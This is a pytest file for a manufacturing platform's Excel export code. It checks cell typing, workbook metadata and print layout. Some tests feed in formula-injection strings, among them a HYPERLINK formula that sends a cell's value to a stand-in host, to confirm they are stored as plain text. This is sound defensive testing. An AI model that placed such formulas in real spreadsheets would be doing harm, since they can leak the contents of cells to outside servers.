from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook

from greenmfg.excel import write_table
from greenmfg.excel.forms import Column, Tab, write_form
from greenmfg.excel.printed import Sheet, Table, write_printed


def sheet_of(content: bytes):
    return load_workbook(BytesIO(content)).active


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x/?"&A1)', "+1", "-1", "@SUM(A1)", "＝1", "\t=1", "0012", "TRUE"]
)
def test_attack_078_text_stays_text(text):
    cell = sheet_of(write_table(title="汇总表", head=["单位名称"], rows=[[text]]))["A2"]

    assert cell.data_type == "s"
    assert cell.value == text


def test_attack_078_text_of_a_printed_form_stays_text():
    formula = '=HYPERLINK("http://x/?"&A1)'
    table = Table(columns=[formula], rows=[[formula]], title=formula)
    told = {name: [formula] for name in ("head", "lead", "closing", "signature")}
    content = write_printed(
        Sheet(title="名单", widths=[20], tables=[table], label=formula, note=formula, **told)
    )
    label, title, *cells = (row[0] for row in sheet_of(content).iter_rows())

    assert title.value == "名单"
    assert len(cells) == 8
    for cell in (label, *cells):
        assert (cell.value, cell.data_type, cell.number_format) == (formula, "s", "@")


def test_numbers_and_dates_stay_what_they_are():
    given = [1, Decimal("92.50"), date(2025, 10, 27), None]
    row = sheet_of(write_table(title="汇总表", head=["序号", "得分", "日期", "备注"], rows=[given]))[2]

    assert [cell.data_type for cell in row] == ["n", "n", "d", "n"]
    number, points, day, nothing = (cell.value for cell in row)
    assert (number, points, day.date(), nothing) == (1, 92.5, date(2025, 10, 27), None)


def test_the_head_stands_above_and_the_title_on_the_tab():
    sheet = sheet_of(write_table(title="绿色工厂推荐名单", head=["序号", "单位名称"], rows=[[1, "𠮷田"]]))

    assert sheet.title == "绿色工厂推荐名单"
    assert [[cell.value for cell in row] for row in sheet.rows] == [["序号", "单位名称"], [1, "𠮷田"]]


def test_characters_no_workbook_takes_are_left_out():
    assert sheet_of(write_table(title="表", head=["x"], rows=[["甲\x00\x0b乙"]]))["A2"].value == "甲乙"


@pytest.mark.parametrize(
    "content",
    [
        write_table(title="表", head=["x"], rows=[]),
        write_printed(Sheet(title="表", widths=[9], tables=[])),
        write_form(
            tabs=[Tab(name="表", title="", lead="", columns=[Column(title="x")], rows=[])], mark={}, footer=""
        ),
    ],
    ids=["table", "printed", "form"],
)
def test_attack_080_the_file_tells_the_platform_made_it_and_nothing_else(content):
    book = load_workbook(BytesIO(content))

    assert book.properties.creator == "绿色制造体系申报评价平台"
    told = book.properties
    assert not any((told.lastModifiedBy, told.title, told.subject, told.description, told.keywords))


def test_a_table_opens_and_prints_as_one_to_read():
    rows = [["湘江新材料有限公司", date(2025, 10, 27)], ["=" * 500, None]]
    sheet = sheet_of(write_table(title="绿色制造名单", head=["单位名称", "公布日期"], rows=rows))

    name, day = (sheet.column_dimensions[letter].width for letter in "AB")
    assert (name, day) == (60, 12)
    assert (sheet.freeze_panes, sheet.print_title_rows) == ("A2", "$1:$1")
    assert (sheet.page_setup.orientation, sheet.page_setup.fitToWidth) == ("landscape", 1)


def test_every_line_of_a_printed_form_is_as_high_as_its_text():
    table = Table(columns=["序号", "单位名称"], rows=[["1", "甲"]])
    form = Sheet(title="表", widths=[8, 42], tables=[table], lead=["根" * 60], note="注" * 70)
    sheet = sheet_of(write_printed(form))

    title, lead, head, row, note = (sheet.row_dimensions[number].height for number in range(1, 6))
    assert (title, lead, note) == (35, 62, 48.5)  # one line, three, three
    assert (head, row) == (None, None)  # Excel finds out by itself where nothing is merged
    assert sheet.print_title_rows == "$3:$3"


def test_of_several_tables_no_head_stands_above_the_others():
    table = Table(columns=["序号"], rows=[["1"]], title="绿色工厂推荐名单")

    assert sheet_of(write_printed(Sheet(title="表", widths=[8], tables=[table] * 2))).print_title_rows is None
    alone = sheet_of(write_printed(Sheet(title="表", widths=[8], tables=[table])))
    assert alone.print_title_rows == "$2:$3"
